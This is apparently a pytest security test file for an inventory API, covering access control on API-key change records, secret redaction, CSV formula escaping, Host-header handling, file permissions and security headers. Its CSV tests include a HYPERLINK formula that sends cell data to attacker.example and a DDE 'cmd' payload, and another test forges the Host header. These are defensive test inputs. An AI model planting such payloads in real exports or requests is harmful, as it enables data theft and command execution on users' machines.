"""Confidentiality and integrity: who may read API-key records, what the change log records about
keys, CSV formula injection, URLs that ignore the Host header, reserved request ids, private local
files, and the security headers on every response."""

from __future__ import annotations

import csv
import io
import multiprocessing
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import httpx
import orjson
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from app.cli import app as cli
from app.core import config
from app.core.db import get_engine
from app.core.files import read_or_create_secret
from tests.conftest import bearer
from tests.helpers import assert_problem
from tests.ports import free_port

EVIL_HOST = "attacker.example"


@pytest.fixture
async def as_role(app, tokens):
    """HTTP clients per role: ``as_role["reader"]`` etc."""
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    clients = {
        role: httpx.AsyncClient(transport=transport, base_url="http://testserver", headers=bearer(token))
        for role, token in tokens.items()
    }
    yield clients
    for http in clients.values():
        await http.aclose()


async def all_changes(http: httpx.AsyncClient, **params) -> list[dict]:
    """Every change record ``http`` can read, following cursors one record per page."""
    items, cursor = [], None
    while True:
        response = await http.get(
            "/api/v1/changes", params={"limit": 7, **params, **({"cursor": cursor} if cursor else {})}
        )
        assert response.status_code == 200, response.text
        page = response.json()
        items.extend(page["items"])
        cursor = page["next_cursor"]
        if not cursor:
            return items


async def make_key_history(admin: httpx.AsyncClient) -> int:
    """Create, rename, re-role and revoke an API key through the API; its id."""
    created = await admin.post(
        "/api/v1/api-keys", json={"name": "import job", "owner": "key owner", "role": "reader", "source": "T-1"}
    )
    assert created.status_code == 201, created.text
    key = created.json()
    url = f"/api/v1/api-keys/{key['id']}"
    renamed = await admin.patch(url, json={"name": "import job 2"}, headers={"If-Match": created.headers["etag"]})
    assert renamed.status_code == 200, renamed.text
    promoted = await admin.patch(url, json={"role": "editor"}, headers={"If-Match": renamed.headers["etag"]})
    assert promoted.status_code == 200, promoted.text
    revoked = await admin.delete(url, headers={"If-Match": promoted.headers["etag"]})
    assert revoked.status_code == 204, revoked.text
    return key["id"]


# Change records of API keys are admin-only.


@pytest.mark.parametrize("role", ["reader", "editor"])
async def test_non_admins_never_read_api_key_change_records(as_role, role):
    key_id = await make_key_history(as_role["admin"])
    admin_view = await all_changes(as_role["admin"])
    key_records = [r for r in admin_view if r["object_type"] == "api-keys"]
    assert [r["action"] for r in key_records if r["object_id"] == key_id] == ["create", "update", "update", "update"]

    http = as_role[role]
    visible = await all_changes(http)
    assert visible
    assert all(r["object_type"] != "api-keys" for r in visible)
    assert len(visible) == len(admin_view) - len(key_records)
    # Asking for them by type, id, request or time gives nothing either.
    assert await all_changes(http, object_type="api-keys") == []
    assert await all_changes(http, object_type="api-keys", object_id=key_id) == []
    request_id = key_records[-1]["request_id"]
    assert await all_changes(http, request_id=request_id) == []
    assert await all_changes(http, since=key_records[0]["recorded_at"], action="create") == [
        r for r in visible if r["recorded_at"] >= key_records[0]["recorded_at"] and r["action"] == "create"
    ]
    for record in key_records:
        assert_problem(await http.get(f"/api/v1/changes/{record['id']}"), 404)
        assert (await as_role["admin"].get(f"/api/v1/changes/{record['id']}")).status_code == 200
    # A page ending just before a hidden record, and its cursor, reveal nothing of it.
    newest_first = (await http.get("/api/v1/changes", params={"sort": "-id", "limit": 500})).json()["items"]
    assert all(r["object_type"] != "api-keys" for r in newest_first)

    # The first (routine) check walks the whole chain; it counts and names only what this key may read.
    report = (await http.get("/api/v1/changes/verify")).json()
    assert report["valid"] is True
    assert report["checkpoint"] is None
    assert report["checked"] == len(visible)
    assert report["head"]["id"] == max(r["id"] for r in visible)
    full = (await as_role["admin"].get("/api/v1/changes/verify/full")).text.splitlines()
    admin_report = orjson.loads(full[-1])["result"]
    assert admin_report["valid"] is True
    assert admin_report["checked"] == len(admin_view)
    assert admin_report["head"]["id"] == key_records[-1]["id"]


async def test_a_reader_cannot_see_a_broken_api_key_record_but_learns_the_chain_is_broken(as_role, db):
    key_id = await make_key_history(as_role["admin"])
    record = (await all_changes(as_role["admin"], object_type="api-keys", object_id=key_id))[0]
    with get_engine(db).begin() as connection:
        connection.execute(
            sa.text("UPDATE change_record SET after = REPLACE(after, 'import job', 'other job') WHERE id = :id"),
            {"id": record["id"]},
        )
    report = (await as_role["reader"].get("/api/v1/changes/verify")).json()
    assert report["valid"] is False
    assert report["first_broken"]["id"] == record["id"]
    assert "import job" not in str(report)
    assert "other job" not in str(report)


# Every API-key lifecycle write is recorded, never with its token or hash.


async def test_every_api_key_write_is_recorded_without_token_or_hash(as_role, db):
    admin = as_role["admin"]
    created = await admin.post("/api/v1/api-keys", json={"name": "recorded", "owner": "key owner", "role": "reader"})
    token = created.json()["token"]
    key_id = await make_key_history(admin)
    records = await all_changes(admin, object_type="api-keys")
    mine = [r for r in records if r["object_id"] == created.json()["id"]]
    assert [(r["action"], r["before"], r["after"]["name"]) for r in mine] == [("create", None, "recorded")]
    assert mine[0]["after"]["token_prefix"] == token[:12]
    assert mine[0]["api_key_id"] is not None
    lifecycle = [r for r in records if r["object_id"] == key_id]
    assert [r["after"]["revoked_at"] is not None for r in lifecycle] == [False, False, False, True]
    assert lifecycle[2]["before"]["role"] == "reader"
    assert lifecycle[2]["after"]["role"] == "editor"

    result = CliRunner().invoke(cli, ["create-key", "--name", "cli made", "--owner", "cli made", "--role", "editor"])
    assert result.exit_code == 0, result.output
    cli_token = result.output.strip()
    cli_records = [r for r in await all_changes(admin, object_type="api-keys") if r["after"]["name"] == "cli made"]
    assert len(cli_records) == 1
    assert cli_records[0]["action"] == "create"
    assert cli_records[0]["request_id"] == "cli"
    assert cli_records[0]["api_key_id"] is None

    every = str(await all_changes(admin))
    with get_engine(db).connect() as connection:
        hashes = [row[0] for row in connection.execute(sa.text("SELECT token_hash FROM api_key"))]
    for secret in [token, cli_token, *hashes]:
        assert secret not in every
    assert "token_hash" not in every
    assert (await admin.get("/api/v1/changes/verify")).json()["valid"] is True


# CSV formula injection.

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(client, db):
    site = (await client.get("/api/v1/sites", params={"code": "maasvlakte"})).json()["items"][0]
    url = f"/api/v1/sites/{site['id']}"
    payload = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    patched = await client.patch(url, json={"name": payload}, headers={"If-Match": f'"site-{site["id"]}-v1"'})
    assert patched.status_code == 200, patched.text
    rows = csv_rows(await client.get("/api/v1/reports/summary", headers={"Accept": "text/csv"}))
    assert {row["site_name"] for row in rows if row["site"] == "maasvlakte"} == {"'" + payload}
    # JSON is data, not a spreadsheet: unchanged there.
    summary = (await client.get("/api/v1/reports/summary")).json()["items"]
    assert {item["site_name"] for item in summary if item["site"] == "maasvlakte"} == {payload}

    # Every trigger, also those the API's own validation strips (planted straight in the database).
    for trigger in TRIGGERS:
        value = f"{trigger}cmd|' /C calc'!A0"
        with get_engine(db).begin() as connection:
            connection.execute(
                sa.text("UPDATE site SET name = :name WHERE id = :id"), {"name": value, "id": site["id"]}
            )
        rows = csv_rows(await client.get("/api/v1/reports/summary", headers={"Accept": "text/csv"}))
        cells = {row["site_name"] for row in rows if row["site"] == "maasvlakte"}
        assert cells == {"'" + value}, (trigger, cells)
        exposure = csv_rows(await client.get("/api/v1/reports/exposure", headers={"Accept": "text/csv"}))
        assert {row["site_name"] for row in exposure if row["site"] == "maasvlakte"} == {"'" + value}
    # Safe text and numbers are left alone.
    assert {row["site_name"] for row in rows if row["site"] == "schiphol"} == {"Schiphol airport"}
    assert all(row["scanners"].isdigit() for row in rows)


# URLs never reflect the Host header.


async def test_links_and_locations_ignore_the_host_header(client):
    headers = {"Host": EVIL_HOST, "X-Forwarded-Host": EVIL_HOST}
    page = await client.get("/api/v1/scanners", params={"limit": 2, "vendor": "nuctech"}, headers=headers)
    link = page.headers["link"]
    assert EVIL_HOST not in link
    assert link.startswith("</api/v1/scanners?")
    assert "vendor=nuctech" in link
    assert f"cursor={page.json()['next_cursor']}" in link
    target = link[1 : link.index(">")]
    assert (await client.get(target)).json()["items"][0]["id"] != page.json()["items"][0]["id"]

    created = await client.post(
        "/api/v1/sites", json={"code": "eemshaven", "name": "Eemshaven", "kind": "seaport"}, headers=headers
    )
    assert created.headers["location"] == f"/api/v1/sites/{created.json()['id']}"
    problem = assert_problem(await client.get("/api/v1/sites/999999", headers=headers), 404)
    assert problem["instance"] == "/api/v1/sites/999999"
    assert EVIL_HOST not in created.text + str(problem)


async def test_a_configured_public_base_url_makes_links_absolute(db, tokens, monkeypatch):
    from app.main import create_app

    monkeypatch.setenv("INVENTORY_PUBLIC_BASE_URL", "https://inventory.example.org")
    config.get_settings.cache_clear()
    try:
        application = create_app()
        async with application.router.lifespan_context(application):
            transport = httpx.ASGITransport(app=application)
            async with httpx.AsyncClient(
                transport=transport, base_url="http://testserver", headers=bearer(tokens["editor"])
            ) as http:
                page = await http.get("/api/v1/sites", params={"limit": 1}, headers={"Host": EVIL_HOST})
                assert page.headers["link"].startswith("<https://inventory.example.org/api/v1/sites?")
                created = await http.post(
                    "/api/v1/sites", json={"code": "delfzijl", "name": "Delfzijl", "kind": "seaport"}
                )
                assert (
                    created.headers["location"] == f"https://inventory.example.org/api/v1/sites/{created.json()['id']}"
                )
    finally:
        monkeypatch.delenv("INVENTORY_PUBLIC_BASE_URL")
        config.get_settings.cache_clear()


# Reserved request ids.


@pytest.mark.parametrize("claimed", ["seed", "SEED", "cli", "Cli", "seed:reload", "cli:create-key"])
async def test_clients_cannot_claim_the_services_own_request_ids(client, claimed):
    response = await client.post(
        "/api/v1/sites",
        json={"code": "eemshaven", "name": "Eemshaven", "kind": "seaport"},
        headers={"X-Request-ID": claimed},
    )
    assert response.status_code == 201
    given = response.headers["x-request-id"]
    assert given != claimed
    assert len(given) == 32
    records = (await client.get("/api/v1/changes", params={"object_type": "sites", "sort": "-id", "limit": 1})).json()
    assert records["items"][0]["object_id"] == response.json()["id"]
    assert records["items"][0]["request_id"] == given
    # Ids that only resemble a reserved one stay the client's.
    for own in ("seeding-42", "clicks", "ticket:seed"):
        assert (await client.get("/api/v1/sites", headers={"X-Request-ID": own})).headers["x-request-id"] == own


# Local files are private; the secret is created once even by racing processes.


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_sqlite_files_and_var_are_owner_only(tmp_path):
    from app.core.db import create_engine
    from app.core.migrate import upgrade

    previous = os.umask(0o022)
    try:
        database = tmp_path / "state" / "inventory.db"
        url = f"sqlite:///{database}"
        upgrade(url)
        engine = create_engine(url)
        with engine.begin() as connection:
            connection.execute(sa.text("CREATE TABLE probe (x INTEGER)"))
            connection.execute(sa.text("INSERT INTO probe VALUES (1)"))
            files = [database, Path(f"{database}-wal"), Path(f"{database}-shm")]
            for path in files:
                assert path.exists(), path
                assert mode(path) == 0o600, (path, oct(mode(path)))
        engine.dispose()
        assert mode(database.parent) == 0o700
        # A database an older version left world-readable is tightened when opened.
        os.chmod(database, 0o644)
        create_engine(url).dispose()
        with create_engine(url).connect() as connection:
            connection.execute(sa.text("SELECT 1"))
        assert mode(database) == 0o600

        var = tmp_path / "var"
        secret = read_or_create_secret(var / "secret_key")
        assert len(secret) >= 48
        assert mode(var) == 0o700
        assert mode(var / "secret_key") == 0o600
        assert read_or_create_secret(var / "secret_key") == secret
    finally:
        os.umask(previous)


def _race_for_secret(var_dir: str, start, results) -> None:
    os.environ.pop("INVENTORY_SECRET_KEY", None)
    os.environ["INVENTORY_VAR_DIR"] = var_dir
    config.get_settings.cache_clear()
    config.get_secret_key.cache_clear()
    start.wait()
    results.put(config.get_secret_key().decode())


@pytest.mark.parametrize("attempt", range(4))
def test_processes_starting_together_share_one_secret(tmp_path, attempt):
    context = multiprocessing.get_context("fork")
    path = tmp_path / "var" / "secret_key"
    workers = 12
    start = context.Barrier(workers)
    results = context.Queue()
    processes = [
        context.Process(target=_race_for_secret, args=(str(path.parent), start, results)) for _ in range(workers)
    ]
    for process in processes:
        process.start()
    for process in processes:
        process.join(timeout=30)
    assert [process.exitcode for process in processes] == [0] * workers
    secrets = [results.get(timeout=5) for _ in processes]
    assert len(set(secrets)) == 1
    assert secrets[0]
    assert path.read_text().strip() == secrets[0]
    assert [p.name for p in path.parent.iterdir()] == ["secret_key"]  # no temporary file left behind
    assert mode(path) == 0o600


# Security headers on every response.

SECURITY_HEADERS = {
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "x-frame-options": "DENY",
}


def assert_security_headers(response: httpx.Response, *, html: bool = False) -> None:
    for name, value in SECURITY_HEADERS.items():
        assert response.headers.get(name) == value, (response.request.url, name, response.headers.get(name))
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert ("default-src 'none'" in policy) is not html
    assert "server" not in response.headers


async def test_every_kind_of_response_carries_the_security_headers(as_role, anonymous, tokens):
    admin = as_role["admin"]
    created = await admin.post("/api/v1/api-keys", json={"name": "new", "owner": "key owner", "role": "reader"})
    assert created.json()["token"]
    responses = [
        created,
        await as_role["reader"].get("/api/v1/scanners"),
        await as_role["reader"].get("/api/v1/scanners/1"),
        await as_role["reader"].get("/api/v1/reports/summary", headers={"Accept": "text/csv"}),
        await as_role["reader"].get("/api/v1/scanners/999999"),
        await as_role["reader"].get("/api/v1/scanners", params={"limit": 0}),
        await as_role["reader"].post("/api/v1/sites", json={}),
        await anonymous.get("/api/v1/scanners"),
        await admin.get("/api/v1/api-keys"),
        await anonymous.get("/nowhere"),
        await anonymous.get("/health/live"),
        await anonymous.get("/openapi.json"),
    ]
    for response in responses:
        assert_security_headers(response)
        assert response.headers["cache-control"] == "no-store", response.request.url
    docs = await anonymous.get("/docs")
    assert docs.status_code == 200
    assert "swagger-ui" in docs.text
    assert_security_headers(docs, html=True)


def test_a_served_response_does_not_name_the_server(db, tokens, tmp_path):
    """Through a real ``inventory serve`` process: uvicorn's Server header is switched off."""
    port = free_port()
    env = {**os.environ, "INVENTORY_DATABASE_URL": db, "INVENTORY_PORT": str(port), "INVENTORY_VAR_DIR": str(tmp_path)}
    server = subprocess.Popen(
        [sys.executable, "-m", "app.cli", "serve", "--no-prepare"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        base = f"http://127.0.0.1:{port}"
        deadline = time.monotonic() + 120  # a loaded machine imports slowly
        while True:
            try:
                live = httpx.get(f"{base}/health/live", timeout=1)
                break
            except httpx.TransportError:
                assert server.poll() is None
                assert time.monotonic() < deadline, "the server did not start"
                time.sleep(0.2)
        listed = httpx.get(f"{base}/api/v1/scanners", headers=bearer(tokens["reader"]), timeout=5)
        refused = httpx.get(f"{base}/api/v1/scanners", timeout=5)
        for response in (live, listed, refused):
            assert "server" not in response.headers
            assert_security_headers(response)
        assert listed.status_code == 200
        assert refused.status_code == 401
    finally:
        server.terminate()
        server.wait(timeout=30)
